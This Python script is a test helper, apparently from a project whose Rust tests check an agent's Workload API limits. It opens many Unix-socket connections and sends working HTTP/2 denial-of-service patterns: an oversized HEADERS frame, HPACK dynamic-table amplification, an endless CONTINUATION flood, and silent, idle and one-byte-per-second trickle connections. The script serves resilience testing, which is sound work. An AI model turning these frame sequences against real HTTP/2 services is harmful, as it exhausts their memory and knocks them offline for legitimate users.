#!/usr/bin/env python3
"""Opens COUNT connections to a Workload API socket and attacks each the same way.

    h2_attack.py SOCKET KIND COUNT

KIND is one of:
  oversized     a HEADERS frame declaring 16 MiB, then as much of its payload as the agent takes
  table         a dynamic table size update to 1 MiB, a 15 KB header added to the table, then a
                block of one-byte indexed references to it (decodes to hundreds of MB)
  continuation  a HEADERS without END_HEADERS, then CONTINUATION frames without end
  silent        the connection preface, then nothing
  trickle       a valid request, one byte per second
  idle          a complete request, then nothing: a connection with no open stream

Prints "ready" once every connection is open and its attack is under way, then keeps the
connections until killed. Errors from the agent closing a connection are expected and ignored.
Used by agent/tests/workload_api_memory.rs and tests/e2e/tests/k8s_workload_api_limits.rs.
"""
import socket
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, CONTINUATION, SETTINGS = 0x1, 0x9, 0x4
END_HEADERS = 0x4


def frame(kind, flags, stream, payload, declared=None):
    n = len(payload) if declared is None else declared
    return n.to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def integer(value, prefix_bits, first):
    """RFC 7541 §5.1 integer with the given first-octet pattern."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_indexed(name, value):
    """Literal header field with incremental indexing, new name, no Huffman (RFC 7541 §6.2.1)."""
    return b"\x40" + integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value


def send_quietly(sock, data):
    try:
        sock.sendall(data)
    except OSError:
        pass


def attack(sock, kind):
    if kind == "oversized":
        send_quietly(sock, PREFACE + frame(HEADERS, 0, 1, b"", declared=(1 << 24) - 1))
        chunk = b"\0" * 65536
        for _ in range(256):
            send_quietly(sock, chunk)
    elif kind == "table":
        first = integer(1 << 20, 5, 0x20) + literal_indexed(b"x-big", b"a" * 15000)
        refs = b"\xbe" * 16000  # index 62: the newest dynamic table entry
        send_quietly(sock, PREFACE + frame(HEADERS, END_HEADERS, 1, first))
        send_quietly(sock, frame(HEADERS, END_HEADERS, 3, refs))
    elif kind == "continuation":
        send_quietly(sock, PREFACE + frame(HEADERS, 0, 1, b"\x82"))
        for _ in range(10000):
            send_quietly(sock, frame(CONTINUATION, 0, 1, b""))
    elif kind == "silent":
        send_quietly(sock, PREFACE)
    elif kind == "idle":
        # :method POST, :scheme http, :path / (static table), END_STREAM.
        request = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS | 0x1, 1, b"\x83\x86\x84")
        send_quietly(sock, request)
    elif kind == "trickle":
        request = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, b"\x83\x86")
        for b in request:
            send_quietly(sock, bytes([b]))
            time.sleep(1)
    else:
        raise SystemExit(f"unknown kind {kind!r}")


def main():
    path, kind, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    socks = []
    for _ in range(count):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        socks.append(s)
    threads = [threading.Thread(target=attack, args=(s, kind), daemon=True) for s in socks]
    for t in threads:
        t.start()
    if kind != "trickle":
        for t in threads:
            t.join()
    print("ready", flush=True)
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    main()
